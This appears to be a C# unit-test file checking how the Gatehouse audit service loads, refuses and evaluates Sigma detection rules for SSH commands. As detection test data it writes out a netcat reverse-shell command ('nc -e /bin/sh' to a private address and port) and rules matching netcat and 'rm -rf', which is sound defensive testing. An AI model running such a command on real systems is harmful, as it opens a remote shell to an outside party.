using Gatehouse.Audit.Detection.Sigma;
using Gatehouse.Contracts.Alerts;
using static Gatehouse.Audit.Tests.Detection.Sigma.SigmaScenarios;

namespace Gatehouse.Audit.Tests.Detection.Sigma;

/// <summary>A rule Gatehouse could not evaluate exactly is refused with its file, line and reason; the service does not start with it.</summary>
public sealed class When_sigma_rules_are_loaded : IDisposable
{
    private readonly string _folder = Directory.CreateTempSubdirectory("gatehouse-sigma-").FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    public static TheoryData<string, int, string> Refused => new()
    {
        // YAML that does not parse: the line YamlDotNet stops on.
        { RuleText("ssh_command", "  sel:\n    Program: [rm\n  condition: sel"), 10, "not valid YAML" },
        { RuleText("ssh_command", "  sel:\n    Program: rm\n    Program: mv\n  condition: sel"), 11, "not valid YAML" },
        { RuleText("ssh_command", "  sel:\n    Program: 'rm\n  condition: sel"), 10, "not valid YAML" },
        { RuleText("process_creation", "  sel:\n    Program: rm\n  condition: sel"), 7, "category 'process_creation' is not a Gatehouse category" },
        { RuleText("ssh_command", "  sel:\n    Image|endswith: /rm\n  condition: sel"), 10, "'Image' is not a field of gatehouse/ssh_command" },
        { RuleText("authentication", "  sel:\n    CommandLine: x\n  condition: sel"), 10, "'CommandLine' is not a field of gatehouse/authentication" },
        { RuleText("ssh_command", "  sel:\n    CommandLine|base64offset|contains: x\n  condition: sel"), 10, "modifier 'base64offset' on 'CommandLine' is not supported" },
        { RuleText("ssh_command", "  sel:\n    CommandLine|contans: x\n  condition: sel"), 10, "modifier 'contans'" },
        { RuleText("ssh_command", "  sel:\n    CommandLine|contains|all: x\n  condition: sel"), 10, "'all' with a single value" },
        { RuleText("ssh_command", "  sel:\n    CommandLine|re: '(?<=x)y'\n  condition: sel"), 10, "not a regular expression Gatehouse can evaluate" },
        { RuleText("ssh_command", "  sel:\n    CommandLine|re: '(x'\n  condition: sel"), 10, "not a regular expression" },
        { RuleText("ssh_command", "  sel:\n    Program: rm\n  condition: sel and other"), 11, "'other', which is not a selection" },
        { RuleText("ssh_command", "  sel:\n    Program: rm\n  condition: sel | count() > 5"), 11, "aggregations" },
        { RuleText("ssh_command", "  sel:\n    Program: rm\n  condition: (sel"), 11, "not closed" },
        { RuleText("ssh_command", "  sel:\n    Program: rm\n  condition: 1 of filter*"), 11, "matches no selection" },
        { RuleText("ssh_command", "  keywords:\n    - 'rm -rf'\n  condition: keywords"), 10, "keyword search" },
        { RuleText("ssh_command", "  sel:\n    Program: rm\n  condition: sel").Replace("level: high", "level: severe"), 3, "level 'severe'" },
        { RuleText("ssh_command", "  sel:\n    Program: rm").Replace("product: gatehouse", "product: linux"), 6, "product is 'linux'" },
        { RuleText("ssh_command", "  sel:\n    Program: rm"), 8, "no condition" },
    };

    [Theory]
    [MemberData(nameof(Refused))]
    public void Should_refuse_a_rule_that_cannot_be_evaluated_with_its_file_line_and_reason(string yaml, int line, string reason)
    {
        var file = Path.Combine(_folder, "bad_rule.yml");
        System.IO.File.WriteAllText(file, yaml);

        var refused = Assert.Throws<SigmaRulesRefused>(() => SigmaRuleSet.Load([_folder]));

        var problem = Assert.Single(refused.Problems);
        Assert.True(problem.StartsWith($"{file}:{line}: ", StringComparison.Ordinal), problem);
        Assert.Contains(reason, problem);
    }

    [Fact]
    public void Should_name_every_broken_file_at_once_and_refuse_a_shared_id()
    {
        System.IO.File.WriteAllText(Path.Combine(_folder, "a.yml"), RuleText("ssh_command", "  sel:\n    Program: rm\n  condition: sel"));
        System.IO.File.WriteAllText(Path.Combine(_folder, "b.yml"), RuleText("ssh_command", "  sel:\n    Program: mv\n  condition: sel"));
        System.IO.File.WriteAllText(Path.Combine(_folder, "c.yaml"), "title: [");

        var refused = Assert.Throws<SigmaRulesRefused>(() => SigmaRuleSet.Load([_folder]));

        Assert.Equal(2, refused.Problems.Count);
        Assert.Contains(refused.Problems, p => p.StartsWith(Path.Combine(_folder, "b.yml") + ":1:") && p.Contains("already used by"));
        Assert.Contains(refused.Problems, p => p.StartsWith(Path.Combine(_folder, "c.yaml") + ":"));
    }

    [Fact]
    public void Should_carry_a_rules_identity_level_and_tags_onto_its_alerts()
    {
        var rule = Rule("ssh_command", "  sel:\n    Program: nc\n  condition: sel", "name: netcat-used\ntags: [attack.execution, attack.t1059.004]");
        var rules = new SigmaRuleSet([rule]);
        var command = Command("nc -e /bin/sh 10.0.0.1 4444");

        var (_, alerts) = rules.Evaluate(Gatehouse.Audit.Detection.DetectionState.Empty, 1, command);
        var alert = Assert.Single(alerts);

        Assert.Equal(("sigma:netcat-used", AlertSeverity.High, "7d0e3f6a-0000-4000-8000-000000000001"), (alert.Rule, alert.Severity, alert.RuleId));
        Assert.Equal(["attack.execution", "attack.t1059.004"], alert.Tags!);
        Assert.StartsWith("Test rule: alice on web01: nc -e", alert.Title);
        Assert.Equal([command.EventId], alert.TriggeringEventIds);
    }

    [Fact]
    public void Should_raise_nothing_twice_for_a_page_seen_again_or_the_same_command_again_in_the_session()
    {
        var rules = new SigmaRuleSet([Rule("ssh_command", "  sel:\n    Program: nc\n  condition: sel")]);
        var session = Guid.NewGuid();
        var state = Gatehouse.Audit.Detection.DetectionState.Empty with { LastSequence = 5 };

        var (replayed, none) = rules.Evaluate(state, 5, Command("nc -e /bin/sh h 1", session: session));
        var seen = Command("nc -e /bin/sh h 1", session: session);
        var (after, first) = rules.Evaluate(state, 6, seen);
        var (_, again) = rules.Evaluate(after, 7, Command("nc -e /bin/sh h 1", session: session));

        Assert.Empty(none);
        Assert.Same(state, replayed);
        Assert.Single(first);
        Assert.Empty(again);
        // The alert id derives from the key and the triggering event, so a second writer of the same alert collides.
        Assert.Equal(first[0].AlertId, rules.Evaluate(state, 6, seen).Alerts[0].AlertId);
    }

    [Fact]
    public void Should_load_the_shipped_rules()
    {
        var shipped = SigmaRuleSet.Load([Path.Combine(AppContext.BaseDirectory, SigmaSettings.ShippedFolder)]);

        Assert.Contains(shipped.Rules, r => r.Name == "sigma:reverse-shell");
        Assert.True(shipped.Rules.Count >= 5);
    }
}
